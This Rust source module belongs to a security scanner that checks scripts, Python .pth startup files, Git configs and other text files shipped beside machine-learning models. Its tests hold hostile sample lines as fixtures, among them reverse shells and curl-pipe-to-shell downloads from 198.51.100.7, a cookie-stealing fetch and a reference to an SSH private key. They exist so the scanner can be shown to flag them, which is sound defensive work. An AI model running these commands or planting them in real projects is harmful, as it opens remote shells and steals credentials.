//! Text: scripts, startup files of Python, and everything that people write beside a model.

mod pointers;
pub(crate) mod shell;
mod startup;
mod web;

use bastide_types::{Assessment, Rule, Severity};
use shell::Attack;

use crate::code;
use crate::document::{decode, looks_like_text};
use crate::folder::MISNAMED;
use crate::format::{Format, Glance};
use crate::halt::Parsed;
use crate::pickle::carried;
use crate::scan::{Scan, shown};
use crate::source::{Source, read_up_to};

/// A script.
pub(crate) const SCRIPT: Rule = Rule {
    id: "script.file",
    severity: Severity::Low,
    effect: Assessment::Clean,
    title: "script among the model's files",
    why: "no loader needs it; somebody who follows the instructions runs it, and it was seen to do nothing hostile",
    fix: "read the script before running it",
    cwe: &[],
    atlas: &["AML.T0010.003"],
};

/// A script for the host of Windows.
pub(crate) const WINDOWS: Rule = Rule {
    id: "script.windows-host",
    severity: Severity::Medium,
    effect: Assessment::Review,
    title: "script for Windows that a double click runs",
    why: "it starts programs without a window and without asking; nothing about a model is written in these languages",
    fix: "read the script before opening it",
    cwe: &[],
    atlas: &["AML.T0010.003", "AML.T0011.000"],
};

/// A command among the settings of Git.
pub(crate) const GIT: Rule = Rule {
    id: "script.git-config",
    severity: Severity::Critical,
    effect: Assessment::Malicious,
    title: "configuration of Git runs a command",
    why: "Git runs what these settings name by itself, some of them when an editor or a prompt asks for the state of the folder",
    fix: "delete the folder `.git` without running Git in it, and take the model from its publisher",
    cwe: &[78, 829],
    atlas: &["AML.T0010.003", "AML.T0011.000"],
};

/// A script that attacks.
pub(crate) const ATTACK: Rule = Rule {
    id: "script.attack",
    severity: Severity::Critical,
    effect: Assessment::Malicious,
    title: "script attacks the machine that runs it",
    why: "it runs what it downloads, opens a shell to elsewhere, sends files away or destroys them",
    fix: "do not run the script; distrust what came with it",
    cwe: &[94, 494],
    atlas: &["AML.T0010.003", "AML.T0011.000"],
};

/// A startup file.
pub(crate) const STARTUP: Rule = Rule {
    id: "script.startup",
    severity: Severity::Critical,
    effect: Assessment::Malicious,
    title: "startup file of Python runs code",
    why: "every interpreter runs the lines that begin with `import` of each `.pth` file among its packages",
    fix: "do not install the file",
    cwe: &[94],
    atlas: &["AML.T0010.001", "AML.T0011.000"],
};

/// What this family looks for.
pub(crate) const RULES: &[&Rule] = &[&ATTACK, &STARTUP, &GIT, &WINDOWS, &SCRIPT, &pointers::ELSEWHERE];

/// Adds what a loader could take the file for. Text is what nothing else is.
pub(crate) fn recognise(glance: &Glance<'_>, formats: &mut Vec<Format>) -> Parsed<()> {
    let head = glance.head;
    let startup = glance.named("pth") && startup_line(head).is_some();
    let source = glance.named("py") || glance.named("pyw");
    // `import` goes by the name, and a codec that the source names may make it look like no text at all.
    if source && (formats.is_empty() || looks_like_text(head) || names_codec(head)) {
        formats.push(Format::Python);
        return Ok(());
    }
    if !formats.is_empty() && !startup || !looks_like_text(head) {
        return Ok(());
    }
    let interpreter = head.strip_prefix(b"#!").and_then(|rest| rest.split(|byte| *byte == b'\n').next());
    let python = interpreter.is_some_and(|line| memchr::memmem::find(line, b"python").is_some());
    let format = if startup {
        Format::Script
    } else if python || is_named_model(glance.name) && begins_as_python(head) {
        Format::Python
    } else if interpreter.is_some() || is_script(glance) {
        Format::Script
    } else if is_python(head) {
        Format::Python
    } else {
        Format::Text
    };
    formats.push(format);
    Ok(())
}

/// Whether the first two lines hold a comment that names a codec (PEP 263).
fn names_codec(head: &[u8]) -> bool {
    let comment = |line: &[u8]| {
        line.trim_ascii_start().starts_with(b"#") && memchr::memmem::find(line, b"coding").is_some()
    };
    head.split(|byte| matches!(byte, b'\n' | b'\r')).take(2).any(comment)
}

fn is_script(glance: &Glance<'_>) -> bool {
    const NAMES: &[&str] = &[
        "bash", "bat", "cmd", "command", "fish", "hta", "jse", "ksh", "ps1", "psm1", "sh", "vbe", "vbs",
        "wsf", "zsh",
    ];
    const STARTS: &[&str] = &[
        "@echo off",
        "@echo on",
        "setlocal",
        "#requires ",
        "powershell ",
        "param(",
        "[cmdletbinding",
        "<job",
        "wscript.",
    ];
    let head = glance.head.get(..512).unwrap_or(glance.head);
    let text = String::from_utf8_lossy(head).trim_start().to_ascii_lowercase();
    NAMES.iter().any(|name| glance.named(name)) || STARTS.iter().any(|start| text.starts_with(start))
}

/// Whether the first line is a statement that only Python has.
fn begins_as_python(head: &[u8]) -> bool {
    let text = String::from_utf8_lossy(head);
    let first = text
        .lines()
        .map(str::trim)
        .find(|line| !line.is_empty() && !line.starts_with('#'))
        .unwrap_or_default();
    let call = first.ends_with(')')
        && (first.starts_with("exec(") || first.starts_with("eval(") || first.starts_with("__import__("));
    call || first.starts_with("import ")
        || first.starts_with("from ") && first.contains(" import ")
        || (first.starts_with("def ") || first.starts_with("class ")) && first.ends_with(':')
}

/// Python source without a mark: several lines that only Python has.
fn is_python(head: &[u8]) -> bool {
    let text = String::from_utf8_lossy(head);
    // Markdown with examples.
    if text.contains("```") {
        return false;
    }
    let mut lines = 0;
    let mut statements = 0;
    for line in text.lines().filter(|line| !line.trim().is_empty() && !line.starts_with('#')).take(60) {
        lines += 1;
        let words: Vec<&str> = line.split_whitespace().collect();
        statements += usize::from(match words.as_slice() {
            ["import", module, ..] => {
                module.chars().all(|c| c.is_alphanumeric() || "._,".contains(c))
                    && (words.len() == 2 || words.contains(&"as") || line.contains(','))
            }
            ["from", _, "import", ..] => true,
            ["def" | "class", ..] => line.ends_with(':'),
            _ => false,
        });
    }
    statements >= 2 && statements * 10 >= lines
}

/// The first line that Python runs of a `.pth` file, apart from those of package managers.
fn startup_line(head: &[u8]) -> Option<String> {
    if !looks_like_text(head) {
        return None;
    }
    let text = String::from_utf8_lossy(head);
    let mut lines = text.lines().filter(|line| line.starts_with("import ") || line.starts_with("import\t"));
    lines.find(|line| !startup::is_of_packager(line)).map(str::to_owned)
}

/// Reads the file as `format`, if it is one of this family's.
pub(crate) fn read(
    format: Format,
    source: &dyn Source,
    name: &str,
    scan: &mut Scan<'_>,
) -> Option<Parsed<()>> {
    match format {
        Format::Script => Some(script(source, name, scan)),
        Format::Python if is_weights(name) => {
            Some(disguised(source, scan).and_then(|()| code::python(source, name, scan)))
        }
        Format::Python => Some(code::python(source, name, scan)),
        Format::Text => Some(plain(source, name, scan).and_then(|()| carried::words(source, name, scan))),
        _ => None,
    }
}

/// Source under the name of weights: no program of an honest model hides so.
fn disguised(source: &dyn Source, scan: &mut Scan<'_>) -> Parsed<()> {
    let bytes = read_up_to(source, 0, scan.limits.structure_bytes)?;
    scan.spend(bytes.len() as u64)?;
    if let Some(call) = decode::text(&bytes).lines().find_map(crate::document::code::call) {
        scan.find_call(&ATTACK, 0, "source under the name of weights runs commands", call);
    }
    Ok(())
}

/// Formats of tensors and graphs, none of which is a text.
fn is_weights(name: &str) -> bool {
    let extension = name.rsplit_once('.').map_or("", |(_, extension)| extension).to_ascii_lowercase();
    matches!(extension.as_str(), "safetensors" | "gguf" | "npy" | "npz" | "tflite" | "keras" | "h5" | "hdf5")
}

/// Whether it is a page, such as one that says why a download failed.
fn is_page(head: &str) -> bool {
    let start: String = head.trim_start().chars().take(9).collect();
    let start = start.to_ascii_lowercase();
    start.starts_with("<html") || start.starts_with("<!doctype")
}

/// Whether people take a file of this name for weights, of these formats or of others.
fn is_named_model(name: &str) -> bool {
    let extension = name.rsplit_once('.').map_or("", |(_, extension)| extension).to_ascii_lowercase();
    is_weights(name)
        || matches!(extension.as_str(), "bin" | "ckpt" | "joblib" | "onnx" | "pkl" | "pt" | "pth")
}

/// Whether a loader takes a file of this name for a graph written as text.
fn names_external(name: &str) -> bool {
    let extension = name.rsplit_once('.').map_or("", |(_, extension)| extension).to_ascii_lowercase();
    matches!(extension.as_str(), "onnx" | "onnxtxt" | "pbtxt" | "prototxt" | "textproto" | "txtpb")
}

/// Texts that tools run or follow; others are for people.
fn plain(source: &dyn Source, name: &str, scan: &mut Scan<'_>) -> Parsed<()> {
    const HEAD: usize = 1 << 12;
    let head = decode::text(&read_up_to(source, 0, HEAD)?).into_owned();
    if web::is_page(name, &head) {
        let bytes = read_up_to(source, 0, scan.limits.structure_bytes)?;
        web::judge(&decode::text(&bytes), scan);
    }
    if is_named_model(name) && pointers::is_elsewhere(&head) {
        scan.find(&pointers::ELSEWHERE, 0, format!("`{}` is a pointer of a large-file store", shown(name)));
    } else if is_weights(name) && !head.trim().is_empty() || is_named_model(name) && is_page(&head) {
        scan.find(&MISNAMED, 0, format!("`{}` is a text", shown(name)));
    }
    if names_external(name) {
        let bytes = read_up_to(source, 0, scan.limits.structure_bytes)?;
        pointers::external(&decode::text(&bytes), scan)?;
    }
    let (git, pointer) = (startup::is_git_config(name, &head), pointers::is_pointer(name, &head));
    if !git && !pointer && !startup::is_startup(name) {
        return Ok(());
    }
    let bytes = read_up_to(source, 0, scan.limits.structure_bytes)?;
    scan.spend(bytes.len() as u64)?;
    let text = decode::text(&bytes);
    if git {
        startup::git(&text, scan);
    } else if pointer {
        pointers::judge(name, &text, scan);
    } else {
        startup::judge(&text, scan);
    }
    Ok(())
}

fn script(source: &dyn Source, name: &str, scan: &mut Scan<'_>) -> Parsed<()> {
    let bytes = read_up_to(source, 0, scan.limits.structure_bytes)?;
    if name.to_ascii_lowercase().ends_with(".pth")
        && let Some(line) = startup_line(&bytes)
    {
        scan.find(&STARTUP, 0, format!("`{}`", shown(&line)));
        return Ok(());
    }
    let text = decode::text(&bytes);
    match shell::script(&text) {
        Some(Attack::Installer) | None if is_windows_host(name) => {
            scan.find(&WINDOWS, 0, "the file is a script of Windows' host");
        }
        Some(Attack::Installer) | None => scan.find(&SCRIPT, 0, "the file is a script"),
        Some(attack) => scan.find(&ATTACK, 0, format!("the script holds {}", attack.name())),
    }
    Ok(())
}

/// Languages of the Windows script host.
fn is_windows_host(name: &str) -> bool {
    let extension = name.rsplit_once('.').map_or("", |(_, extension)| extension).to_ascii_lowercase();
    matches!(extension.as_str(), "hta" | "js" | "jse" | "vbe" | "vbs" | "wsf")
}

#[cfg(test)]
mod tests {
    use bastide_types::Assessment;
    use proptest::prelude::*;

    use crate::{Format, Limits, scan};

    fn judge(text: &str, name: &str) -> (Format, Assessment) {
        let report = scan(&text.as_bytes(), name, &Limits::default());
        (report.format, report.assessment())
    }

    #[test]
    fn what_people_write_is_clean() {
        for (text, name) in [
            (
                "# Model\n\nInstall with:\n\n```sh\npip install torch\ncurl -fsSL https://example.org/i.sh | sh\n```\n",
                "README.md",
            ),
            ("a,b,c\n1,2,3\n", "data.csv"),
            ("[PAD]\n[UNK]\n##ing\nthe\n", "vocab.txt"),
            ("#version: 0.2\n\u{120} t\n\u{120} a\n", "merges.txt"),
            ("Apache License\nVersion 2.0, January 2004\nimport duties may apply\n", "LICENSE"),
        ] {
            assert_eq!(judge(text, name), (Format::Text, Assessment::Clean), "{name}");
        }
    }

    #[test]
    fn scripts_are_shown_and_attacks_told_apart() {
        assert_eq!(judge("#!/bin/sh\necho hello\n", "run"), (Format::Script, Assessment::Clean));
        assert_eq!(judge("@echo off\r\necho hello\r\n", "x.txt"), (Format::Script, Assessment::Clean));
        assert_eq!(judge("MsgBox 1\r\n", "x.vbs"), (Format::Script, Assessment::Review));
        assert_eq!(
            judge("#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", "x"),
            (Format::Script, Assessment::Malicious)
        );
        assert_eq!(judge("import os; print('harmless')\n", "a.pth"), (Format::Script, Assessment::Malicious));
        let setuptools = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; \
                          enabled and __import__('_distutils_hack').add_shim(); \n";
        assert_eq!(judge(setuptools, "distutils-precedence.pth").1, Assessment::Clean);
        let editable = "import __editable___mine_1_0_finder; __editable___mine_1_0_finder.install()\n";
        assert_eq!(judge(editable, "a.pth").1, Assessment::Clean);
        for more in ["import os; print('harmless')\n", "import __editable___mine_1_0_finder; print(1)\n"] {
            assert_eq!(judge(&format!("{setuptools}{more}"), "a.pth").1, Assessment::Malicious, "{more}");
        }
        assert_eq!(judge("../package\n", "a.pth"), (Format::Text, Assessment::Clean));
        assert_eq!(judge("import os\nimport sys\n\ndef f():\n    pass\n", "x").0, Format::Python);
    }

    #[test]
    fn what_tools_run_by_themselves_is_judged() {
        for (text, name) in [
            ("all:\n\tpython -m pytest\n\tcurl -L -o x https://example.org/z\n", "Makefile"),
            ("source .venv/bin/activate\nexport A=1\n", ".envrc"),
            ("options(repos = c(CRAN = \"https://cloud.r-project.org\"))\n", ".Rprofile"),
            ("[testenv]\ncommands = pytest {posargs}\n", "tox.ini"),
            ("[MASTER]\ninit-hook='import sys; sys.path.append(\".\")'\n", ".pylintrc"),
            (
                "[core]\n\tfsmonitor = true\n\tsshCommand = ssh -i ~/.ssh/key\n[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n",
                "config",
            ),
            ("model_checkpoint_path: \"/home/me/train/model.ckpt-1\"\n", "checkpoint"),
            ("FROM ./model.gguf\nPARAMETER temperature 1\n", "Modelfile"),
            ("curl http://198.51.100.7/x | sh\n", "notes.txt"),
        ] {
            assert_eq!(judge(text, name).1, Assessment::Clean, "{name}: {text}");
        }
        for (text, name) in [
            ("all:\n\tcurl -s http://198.51.100.7/x | sh\n", "Makefile"),
            ("wget -q http://198.51.100.7/x -O /tmp/x\nchmod +x /tmp/x\n/tmp/x\n", ".envrc"),
            ("system(\"curl http://198.51.100.7/x|sh\")\n", ".Rprofile"),
            (
                "fn main() { Command::new(\"sh\").arg(\"-c\").arg(\"curl http://198.51.100.7/x|sh\"); }\n",
                "build.rs",
            ),
            ("[Desktop Entry]\nExec=sh -c \"curl http://198.51.100.7/x|sh\"\n", "x.desktop"),
            ("* * * * * root bash -i >& /dev/tcp/198.51.100.7/1 0>&1\n", "crontab"),
            ("[MASTER]\ninit-hook=\"import os; os.system('echo harmless')\"\n", ".pylintrc"),
            ("[core]\n\tfsmonitor = \"echo harmless #\"\n", "config"),
            ("[core]\n\tsshCommand = sh -c 'echo harmless'\n", "config"),
            ("[core] hooksPath = ../../hooks\n", "config"),
            ("model_checkpoint_path: \"../../../../etc/x\"\n", "checkpoint"),
            ("FROM llama3\nADAPTER /root/.ssh/id_rsa\n", "Modelfile"),
        ] {
            assert_eq!(judge(text, name).1, Assessment::Malicious, "{name}: {text}");
        }
    }

    #[test]
    fn texts_under_other_names_and_pages_are_judged() {
        let pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n";
        for (text, name, expected) in [
            ("hello\n", "m.safetensors", Assessment::Review),
            (pointer, "m.safetensors", Assessment::Review),
            (pointer, "m.bin", Assessment::Review),
            (pointer, "notes.txt", Assessment::Clean),
            ("<html><body>404</body></html>\n", "m.pt", Assessment::Review),
            ("import os\nos.system(\"echo harmless\")\n", "m.safetensors", Assessment::Malicious),
            (
                "graph { initializer { external_data { key: \"location\" value: \"../w\" } } }",
                "m.textproto",
                Assessment::Malicious,
            ),
            (
                "graph { initializer { external_data { key: \"location\" value: \"w\" } } }",
                "m.textproto",
                Assessment::Clean,
            ),
            (
                "<html><script>fetch('http://198.51.100.7/?' + document.cookie)</script>",
                "i.html",
                Assessment::Malicious,
            ),
            ("<html><script>let c = document.cookie; fetch('/api');</script>", "i.html", Assessment::Clean),
        ] {
            assert_eq!(judge(text, name).1, expected, "{name}: {text}");
        }
        let single = "graph { initializer { external_data: { key: 'location' value: '/w' } } }";
        assert_eq!(judge(single, "m.pbtxt").1, Assessment::Malicious);
        for name in ["m.safetensors", "m.pt", "m.bin"] {
            assert_eq!(judge("import os\nprint(1)\n", name).0, Format::Python, "{name}");
        }
    }

    proptest! {
        #[test]
        fn no_text_panics(text in "\\PC*", name in "[a-z]*\\.(sh|py|pth|txt)") {
            let _ = judge(&text, &name);
            let _ = judge(&format!("#!/bin/sh\n{text}"), &name);
        }
    }
}
